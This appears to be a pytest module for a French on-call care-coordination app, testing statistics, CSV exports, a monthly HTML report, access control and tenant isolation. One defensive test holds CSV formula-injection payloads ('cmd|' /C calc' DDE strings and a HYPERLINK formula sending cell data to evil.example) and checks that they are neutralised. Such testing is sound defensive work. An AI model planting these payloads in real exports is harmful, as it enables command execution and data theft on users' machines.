"""Indicators, CSV exports and the monthly report, on a week whose figures are worked out by
hand below (Europe/Paris; summer time starts on Sunday 28 March 2027 at 03:00 local).

The week of Monday 22 to Sunday 28 March 2027, sector Nord, one GP each weekday in Nord and
one nurse on Wednesday and Sunday for the whole territory: 5 + 2 = 7 required blocks.

    shift (14:00-20:00 local)       UTC            on-call hours
    Mon 22  GP Alpha                13:00-19:00
    Tue 23  GP Bravo                13:00-19:00
    Wed 24  GP Alpha, nurse Nightingale
    Thu 25  GP Bravo, then cancelled: the GP block is uncovered (its 2 slots withdrawn)
    Fri 26  GP Alpha
    Sun 28  nurse Nightingale       12:00-18:00    (summer time)
    → Alpha 3 shifts 18 h, Bravo 1 shift 6 h, Nightingale 2 shifts 12 h
    → GP 4/5 = 80 %, nurse 2/2 = 100 %, overall 6/7 = 85.71 %
    A draft rotation holds Alpha on Thursday 25: it must never count.

Each shift keeps 2 slots at 14:00 and 17:00 local: 6 active shifts → 12 offered slots.
"Now" is Sunday 28 March, 15:00 local (13:00 UTC).

    #  pharmacy  profession  slot (local)   booked (local)  delay    status
    1  Centre    gp          Mon 22 14:00   Mon 22 11:00     180 min seen
    2  Centre    gp          Tue 23 17:00   Mon 22 18:00    1380 min no_show
    3  Gare      nurse       Wed 24 14:00   Wed 24 09:00     300 min seen
    4  Gare      gp          Wed 24 17:00   Tue 23 16:00    1500 min seen (after 25 h)
    5  Centre    gp          Fri 26 17:00   Fri 26 10:00     420 min booked
    6  Centre    nurse       Sun 28 14:00   Sat 27 14:00    1380 min booked
    7  Gare      gp          Mon 22 17:00   Mon 22 13:00             cancelled (slot reopened)

    slots: booked 6 (#1-#6); blocked 1 (Tue 14:00); expired 4 (Mon 17:00, Wed 14:00 GP,
    Wed 17:00 nurse, Fri 14:00); open 1 (Sun 17:00); withdrawn 2 (Thursday)
    referrals: 6 not cancelled, 1 cancelled; gp 4, nurse 2; Centre 4, Gare 2;
    mon 1, tue 1, wed 2, fri 1, sun 1; 14 h: 3, 17 h: 3
    seen within 24 h: #1, #3 → 2/6 = 33.33 %; no-show 1/(3 + 1) = 25 %
    median delay of 180, 300, 420, 1380, 1380, 1500 → (420 + 1380) / 2 = 900 min

A second CPTS gets the very same week: nothing of it may show up in the first one's figures.
"""

import csv
import io
import xml.etree.ElementTree as ElementTree
from dataclasses import dataclass
from datetime import UTC, date, datetime

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select
from sqlalchemy.orm import Session

from app.audit import AuditEntry
from app.coverage.models import CoverageRule
from app.pharmacies.models import Pharmacy
from app.practitioners.models import Practitioner
from app.professions import Profession
from app.referrals.models import Referral
from app.rotations.amendments import refresh_gaps
from app.rotations.models import Rotation, Shift
from app.slots.models import Slot
from app.slots.service import sync_slots
from app.stats.exports import Separator, to_csv
from app.users.models import Role
from tests.conftest import FrozenClock
from tests.factories import (
    Territory,
    make_pharmacy,
    make_practitioner,
    make_sector,
    make_territory,
    make_user_headers,
)

WEEK = {"from": "2027-03-22", "to": "2027-03-28"}
NOW = datetime(2027, 3, 28, 13, 0, tzinfo=UTC)
BLOCK = "14:00-20:00"
ENDPOINTS = (
    "/v1/stats?from=2027-03-22&to=2027-03-28",
    "/v1/exports/oncall-hours.csv?month=2027-03",
    "/v1/exports/referrals.csv?from=2027-03-22&to=2027-03-28",
    "/v1/exports/coverage-gaps.csv?from=2027-03-22&to=2027-03-28",
    "/v1/reports/monthly?month=2027-03",
)


def utc(day: int, hour: int) -> datetime:
    """An instant of March 2027 in UTC."""
    return datetime(2027, 3, day, hour, 0, tzinfo=UTC)


@dataclass(frozen=True)
class Week:
    """The hand-computed week of one CPTS."""

    territory: Territory
    sector_id: int
    alpha: Practitioner
    bravo: Practitioner
    nightingale: Practitioner
    centre: Pharmacy
    gare: Pharmacy

    @property
    def headers(self) -> dict[str, str]:
        """The coordinator's headers."""
        return self.territory.headers


def _rules(session: Session, cpts_id: int, sector_id: int) -> None:
    gp = [("gp", kind, sector_id) for kind in ("mon", "tue", "wed", "thu", "fri")]
    nurse = [("nurse", kind, None) for kind in ("wed", "sun")]
    session.add_all(
        CoverageRule(
            cpts_id=cpts_id, day_kind=kind, profession=profession, sector_id=sector, required=1
        )
        for profession, kind, sector in gp + nurse
    )


def _shift(
    rotation: Rotation, who: Practitioner, day: int, start_hour: int, sector_id: int | None
) -> Shift:
    return Shift(
        cpts_id=rotation.cpts_id,
        rotation_id=rotation.id,
        practitioner_id=who.id,
        profession=who.profession,
        sector_id=sector_id,
        day=date(2027, 3, day),
        block=BLOCK,
        starts_at=utc(day, start_hour),
        ends_at=utc(day, start_hour + 6),
    )


def _rotation(session: Session, cpts_id: int, status: str) -> Rotation:
    rotation = Rotation(
        cpts_id=cpts_id,
        period_start=date(2027, 3, 22),
        period_end=date(2027, 3, 28),
        status=status,
        solver_figures={},
    )
    session.add(rotation)
    session.flush()
    return rotation


def _slot(session: Session, who: Practitioner, starts_at: datetime) -> Slot:
    return session.scalars(
        select(Slot).where(Slot.practitioner_id == who.id, Slot.starts_at == starts_at)
    ).one()


def _refer(
    session: Session,
    slot: Slot,
    pharmacy: Pharmacy,
    booked_at: datetime,
    status: str,
) -> None:
    """A referral as the booking leaves it, with a chosen booking instant and outcome."""
    session.add(
        Referral(
            cpts_id=slot.cpts_id,
            slot_id=slot.id,
            pharmacy_id=pharmacy.id,
            practitioner_id=slot.practitioner_id,
            idempotency_key=f"key-{slot.id}",
            request_fingerprint="test",
            status=status,
            mode="in_practice",
            profession=slot.profession,
            slot_starts_at=slot.starts_at,
            patient_display_name="Jeanne Secret",
            patient_phone="0612345678",
            patient_birth_year=1984,
            reason_category="infection",
            note="Note confidentielle",
            created_at=booked_at,
            outcome_at=NOW if status in ("seen", "no_show") else None,
        )
    )
    slot.status = "open" if status == "cancelled" else "booked"


def make_week(session: Session, *, name: str) -> Week:
    """One CPTS with the week described in this module's docstring."""
    territory = make_territory(session, name=name)
    cpts_id = territory.cpts.id
    nord = make_sector(session, cpts_id=cpts_id, name="Nord")
    alpha, bravo = (
        make_practitioner(session, cpts_id=cpts_id, last_name=n, sectors=[nord])
        for n in ("Alpha", "Bravo")
    )
    nightingale = make_practitioner(
        session, cpts_id=cpts_id, profession=Profession.nurse, last_name="Nightingale"
    )
    _rules(session, cpts_id, nord.id)
    published = _rotation(session, cpts_id, "published")
    thursday = _shift(published, bravo, 25, 13, nord.id)
    session.add_all(
        [
            _shift(published, alpha, 22, 13, nord.id),
            _shift(published, bravo, 23, 13, nord.id),
            _shift(published, alpha, 24, 13, nord.id),
            _shift(published, nightingale, 24, 13, None),
            thursday,
            _shift(published, alpha, 26, 13, nord.id),
            _shift(published, nightingale, 28, 12, None),
        ]
    )
    session.flush()
    sync_slots(session, rotation=published)
    thursday.status = "cancelled"
    sync_slots(session, rotation=published)
    refresh_gaps(session, rotation=published)
    draft = _rotation(session, cpts_id, "draft")
    session.add(_shift(draft, alpha, 25, 13, nord.id))
    centre = make_pharmacy(session, cpts_id=cpts_id, name="Pharmacie du Centre")
    gare = make_pharmacy(session, cpts_id=cpts_id, name="Pharmacie de la Gare")
    _slot(session, bravo, utc(23, 13)).status = "blocked"
    _refer(session, _slot(session, alpha, utc(22, 13)), centre, utc(22, 10), "seen")
    _refer(session, _slot(session, bravo, utc(23, 16)), centre, utc(22, 17), "no_show")
    _refer(session, _slot(session, nightingale, utc(24, 13)), gare, utc(24, 8), "seen")
    _refer(session, _slot(session, alpha, utc(24, 16)), gare, utc(23, 15), "seen")
    _refer(session, _slot(session, alpha, utc(26, 16)), centre, utc(26, 9), "booked")
    _refer(session, _slot(session, nightingale, utc(28, 12)), centre, utc(27, 13), "booked")
    _refer(session, _slot(session, alpha, utc(22, 16)), gare, utc(22, 12), "cancelled")
    session.commit()
    return Week(territory, nord.id, alpha, bravo, nightingale, centre, gare)


@pytest.fixture
def neighbour(session: Session) -> Week:
    """The same week in another CPTS, created first."""
    return make_week(session, name="CPTS Voisine")


@pytest.fixture
def week(client: TestClient, session: Session, clock: FrozenClock, neighbour: Week) -> Week:
    """The week of the CPTS under test, next to its neighbour; the clock on Sunday 15:00."""
    clock.now = NOW
    return make_week(session, name="CPTS Stats")


def _counts(entries: list[dict[str, object]]) -> dict[object, object]:
    return {e["key"]: e["referrals"] for e in entries if e["referrals"]}


def _parse(response_text: str, delimiter: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(response_text), delimiter=delimiter))


def test_stats_of_the_week_match_the_hand_computed_figures(client: TestClient, week: Week) -> None:
    response = client.get("/v1/stats", headers=week.headers, params=WEEK)
    assert response.status_code == 200, response.text
    body = response.json()
    assert (body["from"], body["to"], body["timezone"]) == (
        "2027-03-22",
        "2027-03-28",
        "Europe/Paris",
    )
    assert body["coverage"] == {
        "required": 7,
        "covered": 6,
        "coverage_pct": 85.71,
        "by_profession_and_sector": [
            {
                "profession": "gp",
                "sector_id": week.sector_id,
                "required": 5,
                "covered": 4,
                "coverage_pct": 80.0,
            },
            {
                "profession": "nurse",
                "sector_id": None,
                "required": 2,
                "covered": 2,
                "coverage_pct": 100.0,
            },
        ],
    }
    assert body["oncall_hours"] == [
        {"practitioner_id": week.alpha.id, "profession": "gp", "shifts": 3, "hours": 18.0},
        {"practitioner_id": week.bravo.id, "profession": "gp", "shifts": 1, "hours": 6.0},
        {"practitioner_id": week.nightingale.id, "profession": "nurse", "shifts": 2, "hours": 12.0},
    ]
    assert body["slots"] == {
        "offered": 12,
        "booked": 6,
        "expired": 4,
        "blocked": 1,
        "open": 1,
        "withdrawn": 2,
    }


def test_referral_figures_are_counted_in_local_time(client: TestClient, week: Week) -> None:
    referrals = client.get("/v1/stats", headers=week.headers, params=WEEK).json()["referrals"]
    assert (referrals["total"], referrals["cancelled"]) == (6, 1)
    assert _counts(referrals["by_profession"]) == {"gp": 4, "nurse": 2}
    assert referrals["by_pharmacy"] == [
        {"pharmacy_id": week.centre.id, "name": "Pharmacie du Centre", "referrals": 4},
        {"pharmacy_id": week.gare.id, "name": "Pharmacie de la Gare", "referrals": 2},
    ]
    assert [e["key"] for e in referrals["by_weekday"]] == [
        "mon",
        "tue",
        "wed",
        "thu",
        "fri",
        "sat",
        "sun",
    ]
    assert _counts(referrals["by_weekday"]) == {"mon": 1, "tue": 1, "wed": 2, "fri": 1, "sun": 1}
    assert len(referrals["by_hour"]) == 24
    assert _counts(referrals["by_hour"]) == {"14": 3, "17": 3}
    assert (referrals["seen_within_24h"], referrals["seen_within_24h_pct"]) == (2, 33.33)
    assert (referrals["seen"], referrals["no_show"], referrals["no_show_pct"]) == (3, 1, 25.0)
    assert referrals["median_delay_minutes"] == 900.0


def test_an_empty_period_gives_zeros(client: TestClient, week: Week) -> None:
    response = client.get(
        "/v1/stats", headers=week.headers, params={"from": "2027-05-03", "to": "2027-05-09"}
    )
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["coverage"] == {
        "required": 0,
        "covered": 0,
        "coverage_pct": 0.0,
        "by_profession_and_sector": [],
    }
    assert body["oncall_hours"] == []
    assert set(body["slots"].values()) == {0}
    referrals = body["referrals"]
    assert _counts(referrals["by_weekday"]) == {} and _counts(referrals["by_hour"]) == {}
    assert referrals["by_pharmacy"] == []
    numbers = {k: v for k, v in referrals.items() if not isinstance(v, list)}
    assert numbers == {
        "total": 0,
        "cancelled": 0,
        "seen_within_24h": 0,
        "seen_within_24h_pct": 0.0,
        "seen": 0,
        "no_show": 0,
        "no_show_pct": 0.0,
        "median_delay_minutes": 0.0,
    }


def test_a_reversed_or_too_long_period_is_a_422_naming_to(client: TestClient, week: Week) -> None:
    for params in (
        {"from": "2027-03-28", "to": "2027-03-22"},
        {"from": "2027-01-01", "to": "2028-01-02"},
    ):
        for path in ("/v1/stats", "/v1/exports/referrals.csv", "/v1/exports/coverage-gaps.csv"):
            response = client.get(path, headers=week.headers, params=params)
            assert response.status_code == 422, response.text
            assert response.json()["error"]["fields"][0]["field"] == "to"
    for month in ("2027-13", "2027-3", "mars"):
        response = client.get(
            "/v1/exports/oncall-hours.csv", headers=week.headers, params={"month": month}
        )
        assert response.status_code == 422
        assert response.json()["error"]["fields"][0]["field"] == "month"


def test_pharmacists_and_practitioners_get_403(
    client: TestClient, session: Session, week: Week
) -> None:
    cpts_id = week.territory.cpts.id
    pharmacist = make_user_headers(
        session, cpts_id=cpts_id, role=Role.pharmacist, pharmacy_id=week.centre.id
    )
    practitioner = make_user_headers(
        session, cpts_id=cpts_id, role=Role.practitioner, practitioner_id=week.alpha.id
    )
    for headers in (pharmacist, practitioner):
        for path in ENDPOINTS:
            assert client.get(path, headers=headers).status_code == 403, path
    assert client.get(ENDPOINTS[0]).status_code == 401


def test_oncall_hours_csv_parses_back_with_both_separators(client: TestClient, week: Week) -> None:
    comma = client.get(
        "/v1/exports/oncall-hours.csv", headers=week.headers, params={"month": "2027-03"}
    )
    assert comma.status_code == 200, comma.text
    assert comma.headers["content-type"] == "text/csv; charset=utf-8"
    assert comma.headers["content-disposition"] == 'attachment; filename="oncall-hours-2027-03.csv"'
    rows = _parse(comma.content.decode("utf-8"), ",")
    assert rows == [
        {
            "month": "2027-03",
            "rpps": week.alpha.rpps,
            "last_name": "Alpha",
            "first_name": "Claire",
            "profession": "gp",
            "shifts": "3",
            "hours": "18.00",
        },
        {
            "month": "2027-03",
            "rpps": week.bravo.rpps,
            "last_name": "Bravo",
            "first_name": "Claire",
            "profession": "gp",
            "shifts": "1",
            "hours": "6.00",
        },
        {
            "month": "2027-03",
            "rpps": week.nightingale.rpps,
            "last_name": "Nightingale",
            "first_name": "Claire",
            "profession": "nurse",
            "shifts": "2",
            "hours": "12.00",
        },
    ]
    semicolon = client.get(
        "/v1/exports/oncall-hours.csv",
        headers=week.headers,
        params={"month": "2027-03", "separator": "semicolon"},
    )
    assert semicolon.content.startswith("\ufeff".encode())
    french = _parse(semicolon.content.decode("utf-8-sig"), ";")
    assert [(r["last_name"], r["hours"]) for r in french] == [
        ("Alpha", "18,00"),
        ("Bravo", "6,00"),
        ("Nightingale", "12,00"),
    ]
    empty = client.get(
        "/v1/exports/oncall-hours.csv", headers=week.headers, params={"month": "2027-05"}
    )
    assert _parse(empty.text, ",") == [] and empty.text.startswith("month,rpps,")


def test_referrals_csv_is_anonymous_local_and_audited(
    client: TestClient, session: Session, week: Week
) -> None:
    response = client.get("/v1/exports/referrals.csv", headers=week.headers, params=WEEK)
    assert response.status_code == 200, response.text
    assert response.headers["content-disposition"] == (
        'attachment; filename="referrals-2027-03-22_2027-03-28.csv"'
    )
    text = response.content.decode("utf-8")
    for identity in ("Jeanne", "Secret", "0612345678", "confidentielle", "1984"):
        assert identity not in text
    rows = _parse(text, ",")
    assert [(r["status"], r["booking_to_slot_minutes"]) for r in rows] == [
        ("seen", "180"),
        ("cancelled", "240"),
        ("no_show", "1380"),
        ("seen", "300"),
        ("seen", "1500"),
        ("booked", "420"),
        ("booked", "1380"),
    ]
    sunday = rows[-1]
    assert (sunday["booked_at"], sunday["slot_starts_at"]) == (
        "2027-03-27 14:00",
        "2027-03-28 14:00",
    )
    assert (sunday["slot_weekday"], sunday["slot_hour"], sunday["profession"]) == (
        "sun",
        "14",
        "nurse",
    )
    assert sunday["pharmacy"] == "Pharmacie du Centre" and sunday["outcome_at"] == ""
    semicolon = client.get(
        "/v1/exports/referrals.csv", headers=week.headers, params={**WEEK, "separator": "semicolon"}
    )
    assert _parse(semicolon.content.decode("utf-8-sig"), ";") == rows
    exports = session.scalars(select(AuditEntry).where(AuditEntry.action == "export")).all()
    assert len(exports) == 2 and all(len(e.details["referral_ids"]) == 7 for e in exports)


def test_coverage_gaps_csv_lists_the_uncovered_thursday(client: TestClient, week: Week) -> None:
    for separator, delimiter, encoding in (
        ("comma", ",", "utf-8"),
        ("semicolon", ";", "utf-8-sig"),
    ):
        response = client.get(
            "/v1/exports/coverage-gaps.csv",
            headers=week.headers,
            params={**WEEK, "separator": separator},
        )
        assert response.status_code == 200, response.text
        rows = _parse(response.content.decode(encoding), delimiter)
        assert [{k: v for k, v in r.items() if k != "reason"} for r in rows] == [
            {
                "day": "2027-03-25",
                "weekday": "thu",
                "block": BLOCK,
                "profession": "gp",
                "sector": "Nord",
                "missing": "1",
            }
        ]
        assert rows[0]["reason"]


def test_monthly_report_is_a_french_page_with_two_charts(client: TestClient, week: Week) -> None:
    response = client.get("/v1/reports/monthly", headers=week.headers, params={"month": "2027-03"})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/html")
    page = response.text
    assert "Rapport mensuel SNP — CPTS Stats — mars 2027" in page
    assert "85,71 % (6 / 7 blocs)" in page and "36 h (3 professionnels)" in page
    assert "Jeanne" not in page
    charts = [
        ElementTree.fromstring("<svg" + part.split("</svg>")[0] + "</svg>")
        for part in page.split("<svg")[1:]
    ]
    titles = [[t.text for t in chart.iter("{http://www.w3.org/2000/svg}title")] for chart in charts]
    assert len(charts) == 2
    assert "25 : Non couverts 1" in titles[0] and "24 : Couverts 2" in titles[0]
    assert "24 : Médecins généralistes 1" in titles[1] and "28 : Infirmiers 1" in titles[1]
    empty = client.get("/v1/reports/monthly", headers=week.headers, params={"month": "2027-05"})
    assert empty.status_code == 200 and "0 % (0 / 0 blocs)" in empty.text


def test_another_cpts_data_is_never_counted(
    client: TestClient, week: Week, neighbour: Week
) -> None:
    ours = client.get("/v1/stats", headers=week.headers, params=WEEK).json()
    theirs = client.get("/v1/stats", headers=neighbour.headers, params=WEEK).json()
    assert ours["referrals"]["total"] == theirs["referrals"]["total"] == 6
    assert {h["practitioner_id"] for h in ours["oncall_hours"]} == {
        week.alpha.id,
        week.bravo.id,
        week.nightingale.id,
    }
    assert {p["pharmacy_id"] for p in theirs["referrals"]["by_pharmacy"]} == {
        neighbour.centre.id,
        neighbour.gare.id,
    }
    for path in ENDPOINTS[1:4]:
        exported = client.get(path, headers=neighbour.headers).text
        assert week.alpha.rpps not in exported
    referral_ids = [
        r["referral_id"] for r in _parse(client.get(ENDPOINTS[2], headers=week.headers).text, ",")
    ]
    neighbour_ids = [
        r["referral_id"]
        for r in _parse(client.get(ENDPOINTS[2], headers=neighbour.headers).text, ",")
    ]
    assert len(referral_ids) == len(neighbour_ids) == 7
    assert not set(referral_ids) & set(neighbour_ids)


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
    client: TestClient, session: Session, week: Week
) -> None:
    week.alpha.last_name = "=cmd|' /C calc'!A0"
    week.alpha.first_name = '+HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
    week.bravo.last_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    week.bravo.first_name = "-2+3+cmd|' /C calc'!A0"
    week.nightingale.last_name = "\t=1+1"
    week.nightingale.first_name = "\r=1+1"
    week.centre.name = "=1+1;Pharmacie"
    session.commit()
    for separator, delimiter, encoding in (
        ("comma", ",", "utf-8"),
        ("semicolon", ";", "utf-8-sig"),
    ):
        params = {"month": "2027-03", "separator": separator}
        hours = client.get("/v1/exports/oncall-hours.csv", headers=week.headers, params=params)
        rows = _parse(hours.content.decode(encoding), delimiter)
        assert {r["rpps"]: (r["last_name"], r["first_name"]) for r in rows} == {
            week.alpha.rpps: (
                "'=cmd|' /C calc'!A0",
                '\'+HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
            ),
            week.bravo.rpps: ("'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            week.nightingale.rpps: ("'\t=1+1", "'\r=1+1"),
        }
        params = {**WEEK, "separator": separator}
        referrals = client.get("/v1/exports/referrals.csv", headers=week.headers, params=params)
        pharmacies = {r["pharmacy"] for r in _parse(referrals.content.decode(encoding), delimiter)}
        assert pharmacies == {"'=1+1;Pharmacie", "Pharmacie de la Gare"}


def test_negative_numbers_stay_numbers_and_text_that_looks_like_one_does_not() -> None:
    text = to_csv(("minutes", "hours", "name"), [[-30, -1.5, "-1"]], Separator.semicolon)
    assert text == "\ufeffminutes;hours;name\r\n-30;-1,50;'-1\r\n"
